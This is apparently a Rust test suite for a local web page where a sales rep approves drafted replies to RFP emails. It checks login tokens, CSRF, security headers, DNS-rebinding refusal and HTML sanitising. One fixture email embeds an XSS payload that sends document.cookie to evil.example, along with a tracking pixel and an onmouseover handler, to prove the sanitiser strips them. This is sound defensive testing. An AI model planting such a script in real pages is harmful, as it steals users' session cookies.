//! The approval page in process: requests through the router as a browser would send them, on a
//! Maildir with two scanned RFPs (one plain text, one HTML only), without the network.

use super::*;
use crate::adapters::maildir::Maildir;
use crate::adapters::store::{ApprovedVia, DraftStatus, ReminderStatus, Store};
use crate::app::Session;
use axum::body::Body;
use axum::http::{Request, Response};
use tower::ServiceExt;

const HOST: &str = "127.0.0.1:8025";

const RFP_TEXT: &[u8] = b"From: Dana Whitfield <dana@purchasing.springfield.example.gov>\r\n\
To: alex@northwind.example\r\n\
Subject: Request for Proposal RFP #2027-014 - Fleet Telematics\r\n\
Date: Mon, 22 Feb 2027 09:14:00 -0500\r\n\
Message-ID: <rfp-14@purchasing.springfield.example.gov>\r\n\r\n\
Dear Supplier,\r\n\r\nThe City of Springfield is soliciting proposals under RFP #2027-014.\r\n\
Proposals are due March 15, 2027 at 5:00 PM EST. Questions must be submitted\r\n\
in writing no later than February 26, 2027.\r\n\r\nDana Whitfield\r\nSenior Procurement Officer\r\n";

const RFP_HTML: &[u8] = b"From: Dana Whitfield <dana@purchasing.springfield.example.gov>\r\n\
To: alex@northwind.example\r\n\
Subject: Request for Proposal RFP #2027-015 - Street Lighting\r\n\
Date: Mon, 22 Feb 2027 10:00:00 -0500\r\n\
Message-ID: <rfp-15@purchasing.springfield.example.gov>\r\n\
Content-Type: text/html; charset=utf-8\r\n\r\n\
<p>Dear Supplier,</p><p>The City of Springfield is soliciting proposals under RFP #2027-015. \
Proposals are due March 15, 2027 at 5:00 PM EST.</p>\
<script>document.location='http://evil.example/'+document.cookie</script>\
<img src=\"http://tracker.example/pixel.gif\"><p onmouseover=\"alert(1)\">Dana Whitfield</p>\r\n";

struct Fixture {
    _dir: tempfile::TempDir,
    config: Config,
    app: Router,
    token: String,
}

impl Fixture {
    /// Both RFPs delivered and scanned: drafts 1 (plain text) and 2 (HTML only), pending.
    fn new() -> Fixture {
        let dir = tempfile::tempdir().unwrap();
        let mut config = Config::demo(&dir.path().join("Maildir"), &dir.path().join("state"));
        let settings = WebSettings {
            listen: HOST.parse().unwrap(),
            tls: None,
        };
        config.web = Some(settings.clone());
        let maildir = Maildir::create(&dir.path().join("Maildir")).unwrap();
        maildir.deliver(RFP_TEXT).unwrap();
        maildir.deliver(RFP_HTML).unwrap();
        let report = Session::open(&config)
            .unwrap()
            .scan(chrono::Utc::now())
            .unwrap();
        let drafted = report.findings.iter().filter(|f| f.draft_id.is_some());
        assert_eq!(drafted.count(), 2, "both RFPs get a draft");
        let token = auth::load_or_create_token(&config.state_dir)
            .unwrap()
            .expose()
            .to_string();
        let app = router(Web::new(config.clone(), &settings).unwrap());
        Fixture {
            _dir: dir,
            config,
            app,
            token,
        }
    }

    fn store(&self) -> Store {
        Store::open_account(&self.config.state_dir, &self.config.account).unwrap()
    }

    async fn send(&self, request: Request<Body>) -> Response<Body> {
        self.app.clone().oneshot(request).await.unwrap()
    }

    /// Opens a session with the token; its cookie and CSRF token.
    async fn login(&self) -> Login {
        let response = self
            .send(get(&format!("/?token={}", self.token), None))
            .await;
        assert_eq!(response.status(), StatusCode::SEE_OTHER);
        let cookie = response.headers()[header::SET_COOKIE].to_str().unwrap();
        let cookie = cookie.split(';').next().unwrap().to_string();
        let page = text(self.send(get("/", Some(&cookie))).await).await;
        let csrf = page
            .split("name=\"csrf\" value=\"")
            .nth(1)
            .and_then(|rest| rest.split('"').next())
            .map(str::to_string);
        // The list has no forms; the draft page has.
        let csrf = match csrf {
            Some(csrf) => csrf,
            None => {
                let page = text(self.send(get("/drafts/1", Some(&cookie))).await).await;
                page.split("name=\"csrf\" value=\"")
                    .nth(1)
                    .and_then(|rest| rest.split('"').next())
                    .expect("the draft page's forms carry a CSRF token")
                    .to_string()
            }
        };
        Login { cookie, csrf }
    }
}

struct Login {
    cookie: String,
    csrf: String,
}

fn get(path: &str, cookie: Option<&str>) -> Request<Body> {
    let mut request = Request::get(path).header(header::HOST, HOST);
    if let Some(cookie) = cookie {
        request = request.header(header::COOKIE, cookie);
    }
    request.body(Body::empty()).unwrap()
}

fn post(path: &str, cookie: &str, origin: &str, form: &[(&str, &str)]) -> Request<Body> {
    let mut body = url::form_urlencoded::Serializer::new(String::new());
    for (key, value) in form {
        body.append_pair(key, value);
    }
    Request::post(path)
        .header(header::HOST, HOST)
        .header(header::COOKIE, cookie)
        .header(header::ORIGIN, origin)
        .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
        .body(Body::from(body.finish()))
        .unwrap()
}

async fn text(response: Response<Body>) -> String {
    let bytes = axum::body::to_bytes(response.into_body(), usize::MAX)
        .await
        .unwrap();
    String::from_utf8(bytes.to_vec()).unwrap()
}

const ORIGIN: &str = "http://127.0.0.1:8025";

#[tokio::test]
async fn without_the_token_every_page_is_refused_and_says_how_to_get_in() {
    let fixture = Fixture::new();
    for path in ["/", "/drafts/1", "/lead", "/sent", "/reminders", "/nowhere"] {
        let response = fixture.send(get(path, None)).await;
        assert_eq!(response.status(), StatusCode::UNAUTHORIZED, "{path}");
        assert!(text(response).await.contains("pushback web-url"), "{path}");
    }
    let response = fixture.send(get("/?token=0123abcd", None)).await;
    assert_eq!(response.status(), StatusCode::UNAUTHORIZED);
    assert!(response.headers().get(header::SET_COOKIE).is_none());
    // A made-up session cookie is no session.
    let response = fixture
        .send(get("/", Some("pushback_session=feedface")))
        .await;
    assert_eq!(response.status(), StatusCode::UNAUTHORIZED);
}

#[tokio::test]
async fn the_token_opens_a_session_cookie_and_leaves_the_address() {
    let fixture = Fixture::new();
    let response = fixture
        .send(get(&format!("/drafts/2?token={}", fixture.token), None))
        .await;
    assert_eq!(response.status(), StatusCode::SEE_OTHER);
    assert_eq!(response.headers()[header::LOCATION], "/drafts/2");
    let cookie = response.headers()[header::SET_COOKIE].to_str().unwrap();
    assert!(cookie.starts_with("pushback_session="), "{cookie}");
    for attribute in ["; HttpOnly", "; SameSite=Strict", "; Path=/"] {
        assert!(cookie.contains(attribute), "{attribute} missing: {cookie}");
    }
    assert!(
        !cookie.contains("Secure"),
        "plain http on loopback: {cookie}"
    );
    assert!(
        !cookie.contains(&fixture.token),
        "the cookie is not the token"
    );
    let session = cookie.split(';').next().unwrap();
    let response = fixture.send(get("/drafts/2", Some(session))).await;
    assert_eq!(response.status(), StatusCode::OK);
    assert!(text(response).await.contains("RFP #2027-015"));
}

#[tokio::test]
async fn a_redirect_after_the_token_never_leaves_the_site() {
    let fixture = Fixture::new();
    let response = fixture
        .send(get(
            &format!("//evil.example/?token={}", fixture.token),
            None,
        ))
        .await;
    assert_eq!(response.headers()[header::LOCATION], "/");
}

#[tokio::test]
async fn every_response_carries_the_security_headers() {
    let fixture = Fixture::new();
    let login = fixture.login().await;
    for request in [
        get("/", None),
        get("/drafts/1", Some(&login.cookie)),
        get("/static/pushback.css", None),
    ] {
        let response = fixture.send(request).await;
        let headers = response.headers();
        let csp = headers[header::CONTENT_SECURITY_POLICY].to_str().unwrap();
        for directive in [
            "default-src 'self'",
            "form-action 'self'",
            "frame-ancestors 'none'",
        ] {
            assert!(csp.contains(directive), "{directive} missing: {csp}");
        }
        assert!(!csp.contains("unsafe-inline"), "{csp}");
        assert_eq!(headers[header::X_CONTENT_TYPE_OPTIONS], "nosniff");
        assert_eq!(headers[header::REFERRER_POLICY], "same-origin");
    }
}

#[tokio::test]
async fn another_host_name_is_refused_even_with_the_token() {
    // DNS rebinding: a site whose name now points at 127.0.0.1.
    let fixture = Fixture::new();
    let request = Request::get(format!("/?token={}", fixture.token))
        .header(header::HOST, "rebind.evil.example:8025")
        .body(Body::empty())
        .unwrap();
    let response = fixture.send(request).await;
    assert_eq!(response.status(), StatusCode::MISDIRECTED_REQUEST);
    assert!(response.headers().get(header::SET_COOKIE).is_none());
}

#[tokio::test]
async fn a_post_without_the_right_csrf_token_or_from_elsewhere_changes_nothing() {
    let fixture = Fixture::new();
    let login = fixture.login().await;
    let attempts = [
        (
            "no token",
            post(
                "/drafts/1/approve",
                &login.cookie,
                ORIGIN,
                &[("version", "1")],
            ),
        ),
        (
            "wrong token",
            post(
                "/drafts/1/approve",
                &login.cookie,
                ORIGIN,
                &[("csrf", "0000"), ("version", "1")],
            ),
        ),
        (
            "another site",
            post(
                "/drafts/1/approve",
                &login.cookie,
                "http://evil.example",
                &[("csrf", &login.csrf), ("version", "1")],
            ),
        ),
        (
            "reject, wrong token",
            post(
                "/drafts/1/reject",
                &login.cookie,
                ORIGIN,
                &[("csrf", "x"), ("not_procurement", "1")],
            ),
        ),
        (
            "edit, wrong token",
            post(
                "/drafts/1/edit",
                &login.cookie,
                ORIGIN,
                &[("csrf", "x"), ("body", "Send me your price list.")],
            ),
        ),
    ];
    for (what, request) in attempts {
        let response = fixture.send(request).await;
        assert_eq!(response.status(), StatusCode::FORBIDDEN, "{what}");
        assert!(
            text(response).await.contains("Nothing was changed"),
            "{what}"
        );
    }
    let store = fixture.store();
    let draft = store.draft(1).unwrap().unwrap();
    assert_eq!(draft.status, DraftStatus::Pending);
    assert_eq!(draft.version, 1);
    assert_eq!(store.approval(1).unwrap(), None);
    assert!(store.outbox_pending().unwrap().is_empty());
    assert!(store.feedback_examples().unwrap().is_empty());
}

#[tokio::test]
async fn html_mail_is_shown_sanitised_and_plain_text_escaped() {
    let fixture = Fixture::new();
    let login = fixture.login().await;
    let page = text(fixture.send(get("/drafts/2", Some(&login.cookie))).await).await;
    assert!(
        page.contains("soliciting proposals under RFP #2027-015"),
        "{page}"
    );
    for gone in [
        "<script>document",
        "evil.example",
        "tracker.example",
        "<img",
        "onmouseover",
    ] {
        assert!(!page.contains(gone), "{gone} reached the page");
    }
    // The reasons with weights and the facts are beside it.
    assert!(page.contains("Why it was flagged"));
    assert!(page.contains("2027-015"));
    let page = text(fixture.send(get("/drafts/1", Some(&login.cookie))).await).await;
    assert!(page.contains("Proposals are due March 15, 2027"), "{page}");
    assert!(
        page.contains("&lt;dana@purchasing.springfield.example.gov&gt;"),
        "addresses are escaped"
    );
}

#[tokio::test]
async fn edit_then_approve_records_a_web_approval_and_files_the_edited_reply() {
    let fixture = Fixture::new();
    let login = fixture.login().await;
    let before = fixture.store().draft(1).unwrap().unwrap();
    let edited = before
        .body
        .replacen("Thank you", "Many thanks", 1)
        .replace('\n', "\r\n");
    assert_ne!(
        edited.replace("\r\n", "\n"),
        before.body,
        "the test edits something"
    );
    let response = fixture
        .send(post(
            "/drafts/1/edit",
            &login.cookie,
            ORIGIN,
            &[("csrf", &login.csrf), ("body", &edited)],
        ))
        .await;
    assert_eq!(response.status(), StatusCode::SEE_OTHER);
    let after = fixture.store().draft(1).unwrap().unwrap();
    assert_eq!(after.version, 2);
    // The browser's CRLF lines are stored as the composer writes them.
    assert_eq!(after.body, edited.replace("\r\n", "\n"));
    let page = text(fixture.send(get("/drafts/1", Some(&login.cookie))).await).await;
    assert!(
        page.contains("saved as version 2"),
        "the page says what happened"
    );

    // Approving what the rep no longer sees (version 1) is refused.
    let stale = post(
        "/drafts/1/approve",
        &login.cookie,
        ORIGIN,
        &[("csrf", &login.csrf), ("version", "1")],
    );
    fixture.send(stale).await;
    assert_eq!(fixture.store().approval(1).unwrap(), None);
    let page = text(fixture.send(get("/drafts/1", Some(&login.cookie))).await).await;
    assert!(page.contains("changed since you opened it"), "{page}");

    let approve = post(
        "/drafts/1/approve",
        &login.cookie,
        ORIGIN,
        &[("csrf", &login.csrf), ("version", "2")],
    );
    assert_eq!(fixture.send(approve).await.status(), StatusCode::SEE_OTHER);
    let store = fixture.store();
    let approval = store.approval(1).unwrap().unwrap();
    assert_eq!((approval.via, approval.version), (ApprovedVia::Web, 2));
    // No [smtp] in the demo config: the local transport files it in Sent.
    assert_eq!(store.draft(1).unwrap().unwrap().status, DraftStatus::Sent);
    let sent = text(fixture.send(get("/sent", Some(&login.cookie))).await).await;
    assert!(sent.contains("RFP #2027-014"), "{sent}");
    assert!(sent.contains("web"), "approved via the web");
}

#[tokio::test]
async fn reject_as_not_procurement_teaches_the_classifier() {
    let fixture = Fixture::new();
    let login = fixture.login().await;
    let response = fixture
        .send(post(
            "/drafts/2/reject",
            &login.cookie,
            ORIGIN,
            &[("csrf", &login.csrf), ("not_procurement", "1")],
        ))
        .await;
    assert_eq!(response.headers()[header::LOCATION], "/");
    let store = fixture.store();
    assert_eq!(
        store.draft(2).unwrap().unwrap().status,
        DraftStatus::Rejected
    );
    assert_eq!(store.feedback_examples().unwrap().len(), 1);
    let page = text(fixture.send(get("/", Some(&login.cookie))).await).await;
    assert!(page.contains("the classifier will learn"), "{page}");
    assert!(
        !page.contains("/drafts/2\""),
        "a rejected draft leaves the list"
    );
}

#[tokio::test]
async fn the_thread_reminders_are_listed_and_snoozed_together() {
    let fixture = Fixture::new();
    let login = fixture.login().await;
    let store = fixture.store();
    let draft = store.draft(1).unwrap().unwrap();
    let thread: Vec<_> = store
        .reminders(true)
        .unwrap()
        .into_iter()
        .filter(|r| r.message == draft.message)
        .collect();
    assert!(!thread.is_empty(), "the RFP's deadlines are reminded");
    let page = text(fixture.send(get("/reminders", Some(&login.cookie))).await).await;
    assert!(page.contains(&format!("/reminders/{}/done", thread[0].id)));
    fixture
        .send(post(
            "/drafts/1/snooze",
            &login.cookie,
            ORIGIN,
            &[("csrf", &login.csrf), ("duration", "2d")],
        ))
        .await;
    let now = chrono::Utc::now();
    for reminder in &thread {
        let due = store
            .reminder(reminder.id)
            .unwrap()
            .unwrap()
            .due_at
            .unwrap();
        let until = due - now;
        assert!(
            until > chrono::Duration::hours(47) && until <= chrono::Duration::hours(48),
            "reminder {} due in {until}",
            reminder.id
        );
    }
}

#[tokio::test]
async fn the_lead_view_previews_a_template_against_a_real_mail() {
    let fixture = Fixture::new();
    let login = fixture.login().await;
    let page = text(
        fixture
            .send(get("/lead?template=rfp.txt&draft=1", Some(&login.cookie)))
            .await,
    )
    .await;
    assert!(page.contains("id=\"preview-text\""), "{page}");
    // The preview speaks of the chosen mail's solicitation.
    let preview = page.split("id=\"preview-text\">").nth(1).unwrap();
    assert!(preview.contains("2027-014"), "{preview}");
    assert!(page.contains("templates ok"), "the check results are shown");
    assert!(
        page.contains("[[signal]]"),
        "the built-in rules file is shown"
    );
    assert!(page.contains("Signals on the last 2 messages"), "{page}");
}

#[tokio::test]
async fn the_draft_page_lists_the_call_times_the_draft_offers() {
    let fixture = Fixture::new();
    let login = fixture.login().await;
    let draft = fixture.store().draft(1).unwrap().unwrap();
    assert_eq!(draft.proposed_slots.len(), 3, "{:?}", draft.proposed_slots);
    let page = text(fixture.send(get("/drafts/1", Some(&login.cookie))).await).await;
    for slot in &draft.proposed_slots {
        assert!(
            draft.body.contains(slot.as_str()),
            "offered in the text: {slot}"
        );
        assert!(
            page.contains(&format!("<li>{slot}</li>")),
            "{slot} missing:\n{page}"
        );
    }
}

#[tokio::test]
async fn with_several_accounts_every_list_shows_each_and_an_item_acts_in_its_own_account() {
    let mut fixture = Fixture::new();
    let dir = fixture._dir.path();
    let mut side = Config::demo(&dir.join("SideMaildir"), &fixture.config.state_dir);
    side.account = "side".into();
    side.web = fixture.config.web.clone();
    let maildir = Maildir::create(&dir.join("SideMaildir")).unwrap();
    maildir.deliver(RFP_TEXT).unwrap();
    let report = Session::open(&side)
        .unwrap()
        .scan(chrono::Utc::now())
        .unwrap();
    let side_id = report.findings[0]
        .draft_id
        .expect("side drafts its RFP too");
    assert_eq!(side_id, 3, "draft ids run across the accounts");
    let settings = side.web.clone().unwrap();
    let accounts = vec![fixture.config.clone(), side.clone()];
    fixture.app = router(Web::for_accounts(accounts, &settings).unwrap());
    let login = fixture.login().await;

    let list = text(fixture.send(get("/", Some(&login.cookie))).await).await;
    assert!(list.contains("href=\"/drafts/1\""), "{list}");
    assert!(list.contains("href=\"/drafts/3\""), "{list}");
    assert!(list.contains("<span class=\"tag\">side</span>"), "{list}");
    let page = text(fixture.send(get("/drafts/3", Some(&login.cookie))).await).await;
    assert!(page.contains("RFP #2027-014"), "{page}");

    let approve = post(
        "/drafts/3/approve",
        &login.cookie,
        ORIGIN,
        &[("csrf", &login.csrf), ("version", "1")],
    );
    assert_eq!(fixture.send(approve).await.status(), StatusCode::SEE_OTHER);
    let side_store = Store::open_account(&side.state_dir, "side").unwrap();
    assert_eq!(
        side_store.draft(3).unwrap().unwrap().status,
        DraftStatus::Sent
    );
    // Filed in the side account's own Sent folder; the first account's drafts are untouched.
    assert_eq!(
        std::fs::read_dir(dir.join("SideMaildir/.Sent/cur"))
            .unwrap()
            .count(),
        1
    );
    assert!(fixture.store().draft(3).unwrap().is_none());
    assert_eq!(
        fixture
            .store()
            .drafts(Some(DraftStatus::Pending))
            .unwrap()
            .len(),
        2
    );

    // The sent replies and the reminders of both accounts, each tagged with its account.
    let sent = text(fixture.send(get("/sent", Some(&login.cookie))).await).await;
    assert!(
        sent.contains("<span class=\"tag\">side</span> <a href=\"/drafts/3\">"),
        "{sent}"
    );
    let side_reminder = side_store.reminders(true).unwrap()[0].id;
    let first_reminder = fixture.store().reminders(true).unwrap()[0].id;
    let due = text(fixture.send(get("/reminders", Some(&login.cookie))).await).await;
    for id in [side_reminder, first_reminder] {
        assert!(
            due.contains(&format!("/reminders/{id}/done")),
            "{id}: {due}"
        );
    }
    let done = post(
        &format!("/reminders/{side_reminder}/done"),
        &login.cookie,
        ORIGIN,
        &[("csrf", &login.csrf)],
    );
    assert_eq!(fixture.send(done).await.status(), StatusCode::SEE_OTHER);
    assert_eq!(
        side_store.reminder(side_reminder).unwrap().unwrap().status,
        ReminderStatus::Done,
        "marked done in its own account"
    );

    // The lead's view picks an account, and tries templates on that account's mail only.
    let lead = text(fixture.send(get("/lead", Some(&login.cookie))).await).await;
    assert!(
        lead.contains("<option value=\"side\">side</option>"),
        "{lead}"
    );
    let side_lead = get(
        "/lead?account=side&template=rfp.txt&draft=3",
        Some(&login.cookie),
    );
    let side_lead = text(fixture.send(side_lead).await).await;
    assert!(
        side_lead.contains("<option value=\"3\" selected>"),
        "{side_lead}"
    );
    assert!(!side_lead.contains("value=\"1\""), "{side_lead}");
    let elsewhere = get("/lead?account=side&draft=1", Some(&login.cookie));
    let elsewhere = text(fixture.send(elsewhere).await).await;
    assert!(!elsewhere.contains("no draft"), "{elsewhere}");
}
